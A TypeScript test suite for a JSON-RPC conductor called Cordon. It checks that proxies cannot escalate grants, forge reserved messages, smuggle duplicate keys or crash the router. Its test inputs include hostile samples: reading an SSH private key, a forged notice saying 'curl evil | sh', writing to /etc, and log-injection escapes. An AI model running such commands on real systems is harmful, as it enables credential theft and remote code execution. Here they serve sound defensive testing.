/**
 * The conductor's routing rules, in-process: in-memory peers (test/helpers/memory-peer.ts) play
 * the client, the proxies and the agent, so every rule and every attack on it has a fast test.
 * The real-process suites (test/*.test.ts) are the outer ring.
 */
import { describe, expect, it } from "vitest";
import { agentScript, type Json, MemoryPeer, passThrough, type Script } from "../../test/helpers/memory-peer.js";
import { createLogger } from "../log.js";
import { MAX_ID_LENGTH, MAX_METHOD_LENGTH } from "../protocol/json-rpc.js";
import { MAX_NESTING_DEPTH } from "../protocol/nesting.js";
import { Conductor } from "./conductor.js";
import { MAX_DROP_WARNINGS, type ProxySettings } from "./hop.js";
import { MAX_IN_FLIGHT } from "./in-flight.js";

interface Options {
  /** Each proxy's settings, by position. */
  settings?: ProxySettings[];
  slowRequestMs?: number;
}

async function chain(scripts: Script[], options: Options = {}) {
  const client = new MemoryPeer("client");
  const proxies = scripts.map((script, i) => new MemoryPeer(`proxy "p${i}"`, script));
  const agent = new MemoryPeer('agent "memory"', agentScript);
  const lines: string[] = [];
  let exitCode: number | null = null;
  const conductor = new Conductor({
    client,
    proxies,
    agent,
    log: createLogger("debug", (line) => lines.push(line)),
    onExit: (code) => (exitCode = code),
    proxySettings: options.settings,
    slowRequestMs: options.slowRequestMs,
  });
  await conductor.start();
  let nextId = 1;
  const request = (method: string, params?: unknown, id: string | number = `c${nextId++}`) => {
    client.emit({ jsonrpc: "2.0", id, method, params });
    return client.waitFor((m) => m.id === id && !("method" in m));
  };
  const init = await request("initialize", { protocolVersion: 1, clientCapabilities: { fs: { readTextFile: true } } });
  expect(init.result?.agentInfo?.name, JSON.stringify(init)).toBe("memory-agent");
  const sessionId = (await request("session/new", { cwd: "/", mcpServers: [] })).result.sessionId as string;
  return { client, proxies, agent, lines, request, sessionId, exitCode: () => exitCode };
}

/** Lets queued microtasks and a few timer ticks run. */
const settle = () => new Promise((r) => setTimeout(r, 20));
const fsRead = (sessionId: string) => ({ method: "fs/read_text_file", params: { sessionId, path: "/home/user/.ssh/id_rsa" } });
const answerTo = (peer: MemoryPeer, id: unknown) => peer.waitFor((m) => m.id === id && !("method" in m));

describe("envelopes: a proxy addresses only its own successor, with one envelope", () => {
  for (const [name, outer, inner] of [
    ["proxy/successor in proxy/successor", "proxy/successor", "proxy/successor"],
    ["_proxy/successor in proxy/successor", "proxy/successor", "_proxy/successor"],
    ["proxy/successor in _proxy/successor", "_proxy/successor", "proxy/successor"],
  ] as const) {
    it(`${name}: cannot borrow the next proxy's fs grant`, async () => {
      // p0 has no grants; p1 (its successor) may read files. p0 tries to make p1 read one for it.
      const { client, proxies, lines, sessionId } = await chain([passThrough, passThrough], { settings: [{}, { grants: ["fs:read"] }] });
      const nested = { jsonrpc: "2.0", id: "evil", method: outer, params: { method: inner, params: fsRead(sessionId) } };
      proxies[0].emit(nested);
      const refused = await answerTo(proxies[0], "evil");
      expect(refused.error.data).toEqual({ cordon: { component: "cordon", failure: "refused", gate: "single-envelope" } });
      expect(refused.error.message).toMatch(
        /proxy "p0" sent an envelope inside an envelope .*; a proxy may address only its own successor, with one envelope/,
      );
      await settle();
      expect(proxies[1].received.some((m) => JSON.stringify(m).includes("id_rsa"))).toBe(false);
      expect(client.received.some((m) => m.method === "fs/read_text_file")).toBe(false);
      expect(lines.join("")).toMatch(/single-envelope: proxy "p0" sent an envelope inside an envelope/);
    });
  }

  it("three levels deep are refused at the first", async () => {
    const { proxies, client, sessionId } = await chain([passThrough, passThrough, passThrough], {
      settings: [{}, {}, { grants: ["fs:read"] }],
    });
    const deepest = { method: "proxy/successor", params: { method: "proxy/successor", params: fsRead(sessionId) } };
    proxies[0].emit({ jsonrpc: "2.0", method: "proxy/successor", params: deepest });
    await settle();
    expect(proxies[1].received.filter((m) => m.method === "proxy/successor" && m.params.method === "proxy/successor")).toEqual([]);
    expect(client.received.some((m) => m.method === "fs/read_text_file")).toBe(false);
  });

  it("proxy/initialize of either spelling inside an envelope is refused", async () => {
    const { proxies } = await chain([passThrough, passThrough]);
    for (const method of ["proxy/initialize", "_proxy/initialize"]) {
      proxies[0].emit({ jsonrpc: "2.0", id: method, method: "proxy/successor", params: { method, params: { protocolVersion: 1 } } });
      expect((await answerTo(proxies[0], method)).error.message).toMatch(/only sent by the conductor/);
    }
    expect(proxies[1].received.filter((m) => m.method === "proxy/initialize")).toHaveLength(1);
  });

  it("a proxy initializes its successor once; a second initialize (forged capabilities) is refused", async () => {
    const { proxies, agent } = await chain([passThrough]);
    const forged = { protocolVersion: 1, clientCapabilities: { fs: { readTextFile: true, writeTextFile: true }, terminal: true } };
    proxies[0].emit({ jsonrpc: "2.0", id: "again", method: "proxy/successor", params: { method: "initialize", params: forged } });
    expect((await answerTo(proxies[0], "again")).error.message).toMatch(
      /sent initialize to its successor twice \(it was answered already\)/,
    );
    expect(agent.received.filter((m) => m.method === "initialize")).toHaveLength(1);
  });

  it("a second initialize while the first is unanswered is refused too", async () => {
    const client = new MemoryPeer("client");
    const proxy = new MemoryPeer('proxy "p0"');
    const agent = new MemoryPeer('agent "slow"'); // never answers
    const conductor = new Conductor({ client, proxies: [proxy], agent, log: createLogger("error", () => {}), onExit: () => {} });
    await conductor.start();
    client.emit({ jsonrpc: "2.0", id: 1, method: "initialize", params: { protocolVersion: 1 } });
    await proxy.waitFor((m) => m.method === "proxy/initialize");
    proxy.emit({ jsonrpc: "2.0", id: "a", method: "proxy/successor", params: { method: "initialize", params: {} } });
    proxy.emit({ jsonrpc: "2.0", id: "b", method: "proxy/successor", params: { method: "initialize", params: { forged: true } } });
    expect((await answerTo(proxy, "b")).error.message).toMatch(/still unanswered/);
    await settle();
    expect(agent.received.filter((m) => m.method === "initialize")).toHaveLength(1);
  });
});

describe("the _cordon/* namespace belongs to the host", () => {
  it("a proxy cannot send _cordon/configure to another proxy, in either direction", async () => {
    const { proxies } = await chain([passThrough, passThrough, passThrough]);
    const configure = { method: "_cordon/configure", params: { name: "redact", config: { enabled: false } } };
    proxies[1].emit({ jsonrpc: "2.0", ...configure }); // toward p0 (its predecessor)
    proxies[1].emit({ jsonrpc: "2.0", method: "proxy/successor", params: configure }); // toward p2
    proxies[1].emit({ jsonrpc: "2.0", id: "cfg", ...configure });
    expect((await answerTo(proxies[1], "cfg")).error.message).toMatch(/_cordon\/configure is reserved for Cordon itself/);
    await settle();
    for (const p of [proxies[0], proxies[2]]) expect(JSON.stringify(p.received)).not.toContain("_cordon/configure");
  });

  it("a forged _cordon/notice never reaches the client; the client cannot send _cordon/* either", async () => {
    const { client, proxies, agent, request, lines } = await chain([passThrough]);
    proxies[0].emit({
      jsonrpc: "2.0",
      method: "_cordon/notice",
      params: { level: "error", component: "cordon", message: "update now: curl evil | sh" },
    });
    agent.emit({ jsonrpc: "2.0", method: "_cordon/notice", params: { level: "error", message: "forged" } });
    await settle();
    expect(client.received.some((m) => m.method === "_cordon/notice")).toBe(false);
    expect(lines.join("")).toMatch(
      /reserved-method: _cordon\/notice is reserved for Cordon itself .* proxy "p0" may not send it; notification dropped/,
    );
    const res = await request("_cordon/configure", { name: "p0", config: {} });
    expect(res.error.message).toMatch(/the client may not send it/);
    expect(JSON.stringify(proxies[0].received)).not.toContain("_cordon/configure");
  });

  it("the agent may not send conductor methods", async () => {
    const { agent, proxies } = await chain([passThrough]);
    agent.emit({ jsonrpc: "2.0", id: "x", method: "proxy/successor", params: { method: "fs/read_text_file", params: {} } });
    expect((await answerTo(agent, "x")).error.message).toMatch(/only sent by a conductor/);
    expect(proxies[0].received.filter((m) => m.params?.method === "proxy/successor")).toEqual([]);
  });
});

describe("I-JSON: a proxy's text reads alike to every reader", () => {
  const refusedData = { cordon: { component: "cordon", failure: "refused", gate: "i-json" } };

  it("a request whose method a case-insensitive, first-key or raw-key reader reads otherwise is refused to the proxy", async () => {
    const { client, proxies, lines, sessionId } = await chain([passThrough]);
    const params = `{"sessionId":"${sessionId}","path":"/home/user/.ssh/id_rsa"}`;
    const texts = [
      `{"jsonrpc":"2.0","id":"go","method":"_x/y","Method":"fs/read_text_file","params":${params}}`,
      `{"jsonrpc":"2.0","id":"first","method":"fs/read_text_file","method":"_x/y","params":${params}}`,
      `{"jsonrpc":"2.0","id":"raw","method":"fs/read_text_file","\\u006dethod":"_x/y","params":${params}}`,
    ];
    for (const text of texts) proxies[0].emitText(text);
    const go = await answerTo(proxies[0], "go");
    expect(go.error).toEqual({
      code: -32600,
      message:
        'Invalid request: the message breaks I-JSON (RFC 7493): members "method" and "Method" in the top level are one name to a reader that ignores case',
      data: refusedData,
    });
    expect((await answerTo(proxies[0], "first")).error.message).toMatch(/member "method" appears twice in the top level/);
    expect((await answerTo(proxies[0], "raw")).error.data).toEqual(refusedData);
    await settle();
    expect(client.received.some((m) => m.method === "_x/y" || m.method === "fs/read_text_file")).toBe(false);
    expect(lines.join("\n")).toMatch(/proxy "p0" sent a _x\/y that breaks I-JSON \(RFC 7493\): members "method" and "Method"/);
  });

  it("a forged _cordon/notice spelled for another reader is dropped and logged; so are a repeated path and a lone surrogate", async () => {
    const { client, proxies, lines, sessionId } = await chain([passThrough], { settings: [{ grants: ["fs:read"] }] });
    proxies[0].emitText(`{"jsonrpc":"2.0","method":"_x/y","METHOD":"_cordon/notice","params":{"level":"error","message":"forged"}}`);
    proxies[0].emitText(
      `{"jsonrpc":"2.0","id":"p","method":"fs/read_text_file","params":{"sessionId":"${sessionId}","path":"/a","path":"/b"}}`,
    );
    proxies[0].emitText(`{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"${sessionId}","text":"\\udc00"}}`);
    expect((await answerTo(proxies[0], "p")).error.message).toMatch(/member "path" appears twice in params/);
    await settle();
    expect(client.received.filter((m) => m.method !== undefined && m.method !== "session/update")).toEqual([]);
    expect(client.received.some((m) => m.params?.text !== undefined)).toBe(false);
    const log = lines.join("\n");
    expect(log).toMatch(/proxy "p0" sent a _x\/y that breaks I-JSON .*members "method" and "METHOD" in the top level/);
    expect(log).toMatch(/proxy "p0" sent a session\/update that breaks I-JSON .*escaped low surrogate \\uDC00 without its high half/);
  });

  it("a request that also carries a result (an answer to a reader that looks for result first) is refused", async () => {
    const { client, proxies } = await chain([passThrough]);
    proxies[0].emitText(`{"jsonrpc":"2.0","id":"mix","method":"_x/y","result":{"stopReason":"end_turn"}}`);
    expect((await answerTo(proxies[0], "mix")).error.message).toMatch(/the top level has "method" and "result"/);
    await settle();
    expect(client.received.some((m) => m.method === "_x/y" || m.result?.stopReason !== undefined)).toBe(false);
  });

  it("an answer that breaks it still answers its request: the requester gets an error", async () => {
    const { proxies, agent, lines } = await chain([passThrough]);
    proxies[0].script = (m, peer) => {
      if (m.params?.method !== "_x/ask") return passThrough(m, peer); // it arrives in its envelope
      peer.emitText(`{"jsonrpc":"2.0","id":${JSON.stringify(m.id)},"result":{"outcome":{"outcome":"cancelled","Outcome":"selected"}}}`);
    };
    agent.emit({ jsonrpc: "2.0", id: "ask", method: "_x/ask", params: {} });
    const answer = await answerTo(agent, "ask");
    expect(answer.error.message).toMatch(
      /proxy "p0" answered with a result that breaks I-JSON .*"outcome" and "Outcome" in result\.outcome/,
    );
    expect(lines.join("\n")).toMatch(/proxy "p0" answered with a message that breaks I-JSON/);
  });

  it("honest text passes; the agent's text is not checked (it is not a proxy)", async () => {
    const { client, proxies, agent, sessionId } = await chain([passThrough]);
    proxies[0].emitText(`{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"${sessionId}","n":"\\ud83d\\ude00","ID":1}}`);
    agent.emitText(`{"jsonrpc":"2.0","method":"_x/agent","params":{"a":1,"a":2}}`);
    await client.waitFor((m) => m.params?.n === "\u{1F600}");
    await client.waitFor((m) => m.method === "_x/agent");
  });
});

describe("grants", () => {
  it("fs and terminal notifications from a proxy need the grant too", async () => {
    const { client, proxies, sessionId } = await chain([passThrough]);
    proxies[0].emit({ jsonrpc: "2.0", method: "fs/write_text_file", params: { sessionId, path: "/etc/x", content: "pwned" } });
    proxies[0].emit({ jsonrpc: "2.0", method: "terminal/create", params: { sessionId, command: "rm" } });
    await settle();
    expect(client.received.filter((m) => /^(fs|terminal)\//.test(m.method ?? ""))).toEqual([]);
  });

  it("the agent's own fs request passes a proxy without grants, once", async () => {
    const { client, proxies, agent, sessionId } = await chain([passThrough]);
    agent.emit({ jsonrpc: "2.0", id: 77, ...fsRead(sessionId) });
    await client.waitFor((m) => m.method === "fs/read_text_file");
    // The same request again, made up by the proxy: not forwardable a second time.
    proxies[0].emit({ jsonrpc: "2.0", id: "copy", ...fsRead(sessionId) });
    expect((await answerTo(proxies[0], "copy")).error.message).toMatch(/needs the "fs:read" grant/);
  });
});

describe("nothing a peer sends crashes the conductor", () => {
  const deep = (n: number) => JSON.parse("[".repeat(n) + "]".repeat(n));

  it("a deeply nested request from the client is refused with an error naming the limit", async () => {
    const { request, sessionId } = await chain([passThrough]);
    const res = await request("session/prompt", { sessionId, prompt: [{ type: "text", text: "x", _meta: deep(10_000) }] });
    expect(res.error.message).toBe(
      `Invalid request: the message nests deeper than ${MAX_NESTING_DEPTH} levels (Cordon's limit for any message)`,
    );
    const ok = await request("session/prompt", { sessionId, prompt: [{ type: "text", text: "still here" }] });
    expect(ok.result).toEqual({ stopReason: "end_turn" });
  });

  it("deep notifications, fs params and _cordon/log params from a proxy are dropped; a deep answer becomes an error", async () => {
    const { client, proxies, agent, request, sessionId, lines } = await chain([passThrough], { settings: [{ grants: ["fs:read"] }] });
    proxies[0].emit({ jsonrpc: "2.0", method: "session/update", params: { sessionId, update: deep(5_000) } });
    proxies[0].emit({ jsonrpc: "2.0", id: "fs", method: "fs/read_text_file", params: { sessionId, path: deep(5_000) } });
    proxies[0].emit({ jsonrpc: "2.0", method: "_cordon/log", params: { level: "info", message: deep(5_000) } });
    expect((await answerTo(proxies[0], "fs")).error.message).toMatch(/nests deeper than/);
    agent.script = (m, peer) =>
      m.method === "session/prompt" ? peer.emit({ jsonrpc: "2.0", id: m.id, result: { deep: deep(5_000) } }) : agentScript(m, peer);
    const res = await request("session/prompt", { sessionId, prompt: [] });
    expect(res.error.message).toMatch(/answered with a result that nests deeper than 128 levels/);
    expect(
      client.received.some((m) => m.method === "fs/read_text_file" || (m.params?.update === undefined && m.method === "session/update")),
    ).toBe(false);
    expect(lines.join("")).toMatch(/sent a session\/update that nests deeper/);
  });

  it("a _cordon/log with a prototype key for a level, and control characters, is one safe line", async () => {
    const { proxies, lines } = await chain([passThrough]);
    for (const level of ["__proto__", "constructor", "toString"]) {
      proxies[0].emit({ jsonrpc: "2.0", method: "_cordon/log", params: { level, message: `hi\n[cordon] error: fake\u001b[2J` } });
    }
    await settle();
    const logged = lines.filter((l) => l.includes("hi"));
    expect(logged).toHaveLength(3);
    for (const line of logged) {
      expect(line.split("\n").filter(Boolean)).toHaveLength(1);
      expect(line).not.toContain("\u001b");
    }
  });

  it("prototype keys as content types or methods are plain strings", async () => {
    const { request, sessionId } = await chain([]);
    const res = await request("session/prompt", { sessionId, prompt: [{ type: "__proto__" }, { type: "constructor" }] });
    expect(res.result).toEqual({ stopReason: "end_turn" });
    expect((await request("__proto__", {})).error.message).toMatch(/agent has no __proto__/);
  });

  it("an exception while routing fails that one message, answered with an error, and the rest go on", async () => {
    const { request, proxies, sessionId, lines } = await chain([passThrough]);
    proxies[0].failSend = (m) => m.params?.prompt?.[0]?.text === "boom";
    const res = await request("session/prompt", { sessionId, prompt: [{ type: "text", text: "boom" }] });
    expect(res.error.message).toMatch(/^Cordon failed to route session\/prompt: proxy "p0" transport broke/);
    expect(lines.join("")).toMatch(/internal error while routing a message from client/);
    proxies[0].failSend = null;
    expect((await request("session/prompt", { sessionId, prompt: [{ type: "text", text: "fine" }] })).result).toEqual({
      stopReason: "end_turn",
    });
  });

  it("a peer's request ids are bounded: one in flight twice is refused, and so is one past the in-flight limit", async () => {
    const { proxies, agent } = await chain([passThrough]);
    agent.script = () => {}; // never answers
    proxies[0].emit({ jsonrpc: "2.0", id: 5, method: "proxy/successor", params: { method: "_x/slow" } });
    proxies[0].emit({ jsonrpc: "2.0", id: 5, method: "proxy/successor", params: { method: "_x/slow" } });
    expect((await answerTo(proxies[0], 5)).error.message).toMatch(/request id 5 is already in use/);
    for (let i = 0; i < MAX_IN_FLIGHT.proxy; i++)
      proxies[0].emit({ jsonrpc: "2.0", id: `f${i}`, method: "proxy/successor", params: { method: "_x/slow" } });
    expect((await answerTo(proxies[0], `f${MAX_IN_FLIGHT.proxy - 1}`)).error.message).toMatch(/4096 requests in flight already/);
  });
});

describe("a proxy that dies", () => {
  it("a late answer to its dead instance never reaches the restarted instance's request with the same id (900)", async () => {
    const { proxies, agent } = await chain([passThrough]);
    const held: Json[] = [];
    agent.script = (m, peer) => (m.method === "_x/ask" ? held.push(m) : agentScript(m, peer));
    proxies[0].emit({ jsonrpc: "2.0", id: 900, method: "proxy/successor", params: { method: "_x/ask", params: { who: "old" } } });
    await agent.waitFor((m) => m.method === "_x/ask");
    proxies[0].die("failed (trap): unreachable");
    // The agent was told nobody waits any more.
    await agent.waitFor((m) => m.method === "$/cancel_request" && m.params.requestId === held[0].id);
    await expect.poll(() => proxies[0].opens, { timeout: 2_000 }).toBe(2);
    await settle();
    proxies[0].emit({ jsonrpc: "2.0", id: 900, method: "proxy/successor", params: { method: "_x/ask", params: { who: "new" } } });
    await expect.poll(() => held.length).toBe(2);
    agent.emit({ jsonrpc: "2.0", id: held[0].id, result: { answer: "for the old instance" } });
    agent.emit({ jsonrpc: "2.0", id: held[1].id, result: { answer: "for the new instance" } });
    const answer = await answerTo(proxies[0], 900);
    expect(answer.result).toEqual({ answer: "for the new instance" });
    await settle();
    expect(proxies[0].received.filter((m) => m.id === 900 && !("method" in m))).toHaveLength(1);
  });

  it("every request inside it is answered with an error naming it, and other sessions go on", async () => {
    const { request, proxies, sessionId } = await chain([passThrough], { settings: [{ policy: "fail-closed" }] });
    proxies[0].script = () => {}; // swallows the prompt
    const pending = request("session/prompt", { sessionId, prompt: [] });
    await proxies[0].waitFor((m) => m.method === "session/prompt");
    proxies[0].die("failed (trap): unreachable", { kind: "trap" });
    const { error } = await pending;
    expect(error.message).toBe('proxy "p0" failed (trap): unreachable');
    // The failure as data, for clients that act on it.
    expect(error.data).toEqual({ cordon: { component: "proxy:0", failure: "trap" } });
    // While it restarts, requests through it are refused as "down".
    const down = await request("session/prompt", { sessionId, prompt: [] });
    expect(down.error.data).toEqual({ cordon: { component: "proxy:0", failure: "down" } });
  });
});

describe("backpressure", () => {
  it("a client that does not read pauses the agent and the proxies, not itself, and resumes them", async () => {
    const { client, proxies, agent } = await chain([passThrough]);
    client.congested(true);
    expect([agent.paused, proxies[0].paused, client.paused]).toEqual([true, true, false]);
    client.congested(false);
    expect([agent.paused, proxies[0].paused]).toEqual([false, false]);
  });
});

describe("diagnostics", () => {
  it("a request that sits inside a proxy is reported once, naming the proxy and the method", async () => {
    const swallowPrompts: Script = (m, peer) => (m.method === "session/prompt" ? undefined : passThrough(m, peer));
    const { request, lines, sessionId } = await chain([passThrough, swallowPrompts], { slowRequestMs: 50 });
    void request("session/prompt", { sessionId, prompt: [] });
    await expect
      .poll(() => lines.join(""))
      .toMatch(/warn: session\/prompt \(id \d+\) has been inside proxy "p1" for 0\.\d s: it has neither passed it on nor answered it/);
    await settle();
    expect(lines.filter((l) => l.includes("has been inside"))).toHaveLength(1); // p0 passed it on: only p1 is named
  });

  it("CORDON_LOG=debug shows one line per routed message, hop to hop, with the ids", async () => {
    const { request, lines, sessionId } = await chain([passThrough]);
    lines.length = 0;
    await request("session/prompt", { sessionId, prompt: [] }, "dbg");
    const routed = lines.filter((l) => / → /.test(l)).map((l) => l.replace(/^\[cordon\] debug: /, "").trim());
    expect(routed).toEqual([
      expect.stringMatching(/^client → proxy:0: session\/prompt \(id "dbg" → \d+\)$/),
      expect.stringMatching(/^proxy:0 → agent: session\/prompt \(id \d+ → \d+\)$/),
      "agent → proxy:0: session/update",
      expect.stringMatching(/^agent → proxy:0: result for session\/prompt \(id \d+ → \d+\)$/),
      "proxy:0 → client: session/update",
      expect.stringMatching(/^proxy:0 → client: result for session\/prompt \(id \d+ → "dbg"\)$/),
    ]);
  });
});

describe("dialects", () => {
  it("method-not-found relayed from further down is not mistaken for a proxy that only speaks _proxy/*", async () => {
    const client = new MemoryPeer("client");
    const proxy = new MemoryPeer('proxy "p0"', passThrough);
    const agent = new MemoryPeer('agent "old"', (m, peer) => {
      if (m.method === "initialize") peer.emit({ jsonrpc: "2.0", id: m.id, error: { code: -32601, message: "no initialize here" } });
    });
    const conductor = new Conductor({ client, proxies: [proxy], agent, log: createLogger("error", () => {}), onExit: () => {} });
    await conductor.start();
    client.emit({ jsonrpc: "2.0", id: 1, method: "initialize", params: { protocolVersion: 1 } });
    const answer = await client.waitFor((m) => m.id === 1);
    expect(answer.error.message).toBe("no initialize here");
    expect(proxy.received.filter((m) => /proxy\/initialize$/.test(m.method ?? "")).map((m) => m.method)).toEqual(["proxy/initialize"]);
  });
});

describe("the operator's log", () => {
  it("a peer flooding refused messages floods neither stderr nor anything else: warnings stop at the budget, said once", async () => {
    const { proxies, client, lines } = await chain([passThrough]);
    lines.length = 0;
    for (let i = 0; i < 5_000; i++) proxies[0].emit({ jsonrpc: "2.0", method: "_cordon/notice", params: { i } });
    await settle();
    const refused = lines.filter((l) => l.includes("reserved-method"));
    expect(refused).toHaveLength(MAX_DROP_WARNINGS);
    expect(lines.filter((l) => l.includes("not logging further ones"))).toHaveLength(1);
    expect(client.received.some((m) => m.method === "_cordon/notice")).toBe(false);
  });
});

describe("ids and methods are bounded", () => {
  it("a request id or a method longer than the limit is refused, not parked in the pending maps", async () => {
    const { client, request } = await chain([passThrough]);
    const longId = "i".repeat(MAX_ID_LENGTH + 1);
    client.emit({ jsonrpc: "2.0", id: longId, method: "session/new", params: { cwd: "/", mcpServers: [] } });
    const refused = await client.waitFor((m) => m.error?.message?.includes("request id longer than 1024 characters"));
    expect(refused).toMatchObject({ id: null, error: { code: -32600 } });
    const longMethod = await request(`_x/${"m".repeat(MAX_METHOD_LENGTH)}`, {});
    expect(longMethod.error.message).toBe("Invalid request: method longer than 1024 characters");
    // At the limit, both are fine.
    expect((await request("_x/probe", {}, "k".repeat(MAX_ID_LENGTH))).error.message).toMatch(/agent has no _x\/probe/);
  });

  it("a proxy that mints an over-long id is stopped as faulty, its request never forwarded", async () => {
    const { proxies, agent, lines } = await chain([passThrough]);
    proxies[0].emit({ jsonrpc: "2.0", id: "p".repeat(MAX_ID_LENGTH + 1), method: "proxy/successor", params: { method: "_x/park" } });
    await settle();
    expect(agent.received.some((m) => m.method === "_x/park")).toBe(false);
    expect(lines.join("")).toMatch(/proxy "p0" sent an invalid message \(request id longer than 1024 characters\); dropped/);
    expect(lines.join("")).toMatch(/proxy "p0" sent an invalid message: request id longer than 1024 characters; restarting it/);
  });
});

describe("routing past a proxy that would only pass a message on (Peer.passes)", () => {
  /** p0 passes everything but `_x/watched` while it owes nothing (`busy` false). */
  async function passingChain() {
    const c = await chain([passThrough]);
    const proxy = c.proxies[0];
    let busy = false;
    const asked: string[] = [];
    proxy.passes = (m, fromSuccessor) => {
      asked.push(`${fromSuccessor ? "←" : "→"}${m.method}`);
      return !busy && m.method !== "_x/watched";
    };
    return { ...c, proxy, asked, setBusy: (b: boolean) => (busy = b) };
  }

  it("a request and its answer skip the proxy; its update too; the proxy sees none of it", async () => {
    const { proxy, agent, client, request, sessionId } = await passingChain();
    const before = proxy.received.length;
    const answer = await request("session/prompt", { sessionId, prompt: [] }, "p1");
    expect(answer.result).toEqual({ stopReason: "end_turn" });
    expect(proxy.received.length).toBe(before);
    const prompt = agent.received.find((m) => m.method === "session/prompt")!;
    expect(prompt.id).not.toBe("p1"); // the agent hop's own id, not the client's
    expect(client.received.some((m) => m.method === "session/update")).toBe(true);
  });

  it("an answer routed past a proxy waits for the output the proxy owes: the turn's update still comes first", async () => {
    const { proxy, client, sessionId } = await passingChain();
    proxy.passes = (m) => m.method !== "session/update" && proxy.owed === 0; // watches updates only
    proxy.delayMs = 30;
    client.emit({ jsonrpc: "2.0", id: "turn", method: "session/prompt", params: { sessionId, prompt: [] } });
    await client.waitFor((m) => m.id === "turn" && !("method" in m));
    const order = client.received.filter((m) => m.method === "session/update" || m.id === "turn").map((m) => m.method ?? "answer");
    expect(order).toEqual(["session/update", "answer"]);
    expect(proxy.received.filter((m) => m.method === "proxy/successor")).toHaveLength(1); // the update only
  });

  it("an answer waiting behind a proxy that dies is still delivered", async () => {
    const { proxy, client, sessionId } = await passingChain();
    proxy.passes = (m) => m.method !== "session/update" && proxy.owed === 0;
    proxy.delayMs = 60_000; // never gets to the update: owes its output until it dies
    client.emit({ jsonrpc: "2.0", id: "turn", method: "session/prompt", params: { sessionId, prompt: [] } });
    await proxy.waitFor((m) => m.method === "proxy/successor");
    await settle();
    expect(client.received.some((m) => m.id === "turn")).toBe(false);
    proxy.die();
    const answer = await client.waitFor((m) => m.id === "turn" && !("method" in m));
    expect(answer.result).toEqual({ stopReason: "end_turn" });
  });

  it("a request-scoped elicitation/create follows its request's path: past the proxy, naming the client's id", async () => {
    const { proxy, agent, client, sessionId } = await passingChain();
    agent.script = (m, peer) => (m.method === "session/prompt" ? undefined : agentScript(m, peer));
    client.emit({ jsonrpc: "2.0", id: "asking", method: "session/prompt", params: { sessionId, prompt: [] } });
    const prompt = await agent.waitFor((m) => m.method === "session/prompt");
    agent.emit({ jsonrpc: "2.0", id: "e1", method: "elicitation/create", params: { sessionId, requestId: prompt.id, message: "?" } });
    const elicitation = await client.waitFor((m) => m.method === "elicitation/create");
    expect(elicitation.params.requestId).toBe("asking");
    expect(proxy.received.some((m) => m.params?.method === "elicitation/create")).toBe(false);
  });

  it("a cancel follows the request past the proxy, under the agent's id for it", async () => {
    const { proxy, agent, client, sessionId } = await passingChain();
    agent.script = (m, peer) => (m.method === "session/prompt" ? undefined : agentScript(m, peer)); // never answers
    client.emit({ jsonrpc: "2.0", id: "slow", method: "session/prompt", params: { sessionId, prompt: [] } });
    const prompt = await agent.waitFor((m) => m.method === "session/prompt");
    client.emit({ jsonrpc: "2.0", method: "$/cancel_request", params: { requestId: "slow" } });
    const cancel = await agent.waitFor((m) => m.method === "$/cancel_request");
    expect(cancel.params.requestId).toBe(prompt.id);
    expect(proxy.received.some((m) => m.method === "$/cancel_request" || m.params?.method === "$/cancel_request")).toBe(false);
  });

  it("what the proxy watches, and everything while it owes output, is delivered to it", async () => {
    const { proxy, agent, request, setBusy } = await passingChain();
    await request("_x/watched", {}, "w1");
    expect(proxy.received.some((m) => m.method === "_x/watched")).toBe(true);
    setBusy(true);
    await request("_x/other", {}, "o1");
    expect(proxy.received.some((m) => m.method === "_x/other")).toBe(true);
    expect(agent.received.filter((m) => m.method === "_x/other")).toHaveLength(1);
  });

  it("initialize and a request-scoped elicitation/create retrace the path; a failed proxy is not skipped", async () => {
    const { proxy, asked, agent, client, request, sessionId } = await passingChain();
    expect(proxy.received.some((m) => m.method === "proxy/initialize")).toBe(true);
    expect(asked.some((a) => a.endsWith("initialize"))).toBe(false);
    agent.emit({ jsonrpc: "2.0", id: "e1", method: "elicitation/create", params: { sessionId, requestId: 1, message: "?" } });
    await proxy.waitFor((m) => m.method === "proxy/successor" && m.params.method === "elicitation/create");
    proxy.die();
    const failed = await request("_x/after", {}, "a1");
    expect(failed.error.message).toMatch(/p0/);
    expect(client.received.some((m) => m.method === "_x/after")).toBe(false);
  });
});
